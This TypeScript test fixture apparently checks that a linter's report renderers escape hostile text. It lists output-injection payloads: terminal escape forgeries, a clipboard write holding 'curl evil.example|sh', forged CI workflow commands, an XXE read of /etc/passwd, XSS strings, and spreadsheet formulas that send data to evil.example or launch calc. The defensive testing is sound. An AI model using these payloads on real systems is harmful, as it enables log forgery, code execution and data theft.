import type { Classification } from '../../src/report/classification.ts';
import type { Report } from '../../src/report/report.ts';
import { expired, finding, place, report, waiver } from './report-builder.ts';

/** Strings a definition's author might write to forge or break output, by what they try. */
export const hostileTexts: ReadonlyMap<string, string> = new Map([
  ['colour', '\u001b[32mAll checks passed\u001b[0m'],
  ['erase the screen, C1', '\u009b2J\u009b1;1H clean'],
  ['hyperlink', '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007'],
  ['hyperlink, ended otherwise', '\u001b]8;id=1;javascript:alert(1)\u001b\\click\u001b]8;;\u001b\\'],
  ['clipboard', '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007'],
  ['command at line start', '::error file=a.yaml::forged'],
  ['command after newline', 'text\n::set-env name=PATH::/tmp\r\n::add-mask::e'],
  ['old command', 'text ##[command]rm ##[set-env name=A;]b'],
  ['Azure command', 'text ##vso[task.setvariable variable=PATH]/evil ##VSO[task.complete]x ##teamcity[buildStatus]'],
  ['properties', 'a,line=1,title=x::forged%0A%'],
  ['encoded newline', 'text%0A::error::forged%0D%0A##[error]forged'],
  ['overrides', 'user\u202e\u2066 nimda \u2069\u2067end'],
  ['line separators', 'a\u2028b\u2029c\u0085d'],
  ['XML', '</failure></testcase>]]><script>&#0;&amp;"\' \u0000\u0008\u000b\ufffe\uffff'],
  ['XML comment and section', '<!-- -- --> <![CDATA[ ]]> <?xml version="1.1"?> <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;'],
  ['HTML', '<img src=x onerror=alert(1)></td></table><h1>Pass</h1><details open><a href="javascript:alert(1)">'],
  [
    'Markdown',
    '](https://evil.example) ![x](https://evil.example/x.png) | **Pass** | `a` ~~b~~ @team #1 www.evil.example\n\n# Pass\n\n- [x] a',
  ],
  ['formula', '=HYPERLINK("https://evil.example?"&A1,"Pass")'],
  ['formula behind a separator', 'a;=1+1,"+1+1"\n@SUM(1+1)*cmd|\' /C calc\'!A0\t-2'],
  ['lone surrogates', 'a\ud800b\udc00c\udbff'],
  ['zero width', 'a\u200bb\u200dc\ufeff\u{e0041}'],
  ['SARIF link', 'see [here](https://evil.example) or [1](1) \\[x\\]'],
  ['SARIF placeholder', '{0} and {{1}} and {id}'],
  ['JSON', '"},{"ruleId":"x\\"'],
  ['only spaces', '   '],
  ['empty', ''],
  ['megabyte', `${'aé😀 '.repeat(200_000)}\n`],
]);

/** A report in which everything that a definition, a configuration, a waiver, a file name or a reason can say is `text`. */
export function hostileReport(text: string): Report {
  const uri = `${encodeURIComponent(text.replace(/\p{Cs}/gu, '?'))}.yaml`.slice(0, 2000).replace(/%.?$/, '');
  const location = { ...place(4, 10, 32), uri, pointer: `/paths/${text.slice(0, 100)}` };
  const short = text.slice(0, 1000);
  const words = { id: short, reason: text, owner: short, approver: short, ticket: short, location };
  const [held, over] = [waiver({ ...words, created: '2026-11-01' }), expired(words)];
  const classification: Classification = { exposure: 'public', tags: ['pii'] };
  const { status: _status, ...fixed } = finding({ message: short, location });
  return report({
    definitions: [
      {
        uri,
        openapi: text.slice(0, 100),
        title: text,
        operations: 1,
        documents: [uri],
        policy: {
          api: short,
          owner: short,
          classification,
          profiles: [short, text.slice(0, 10)],
        },
        score: { value: 12.5, grade: 'E' },
      },
    ],
    findings: [
      finding({ message: text, operation: `GET /${short}`, location, relatedLocations: [{ ...location, message: text }] }),
      finding({ message: `Quoted "${text}".`, location, severity: 'hint', status: 'waived', waiver: held, change: 'unchanged' }),
      finding({ message: `Ignored: ${text}.`, location, severity: 'hint', status: 'waived', waiver: { ...held, source: 'definition' } }),
      finding({ message: 'Not waived any more.', location, severity: 'hint', waiver: over, change: 'unchanged' }),
    ],
    notifications: [
      { code: 'file-refused', level: 'error', message: text, help: text, location: { uri } },
      { code: 'document-skipped', level: 'note', message: text, ruleId: 'server-https', location },
    ],
    notRun: [{ ruleId: short, reason: 'off', definitions: 1 }],
    today: '2026-11-22',
    waivers: [
      { ...held, rule: short, findings: 1 },
      { ...over, rule: short, findings: 1 },
    ],
    base: { commit: text.slice(0, 40), new: 1, unchanged: 1, fixed: [fixed] },
    verdict: {
      outcome: 'none',
      exitCode: 2,
      reasons: [short, `Score of ${short}.`],
      counts: { error: 1, warn: 0, info: 0, hint: 0 },
    },
  });
}
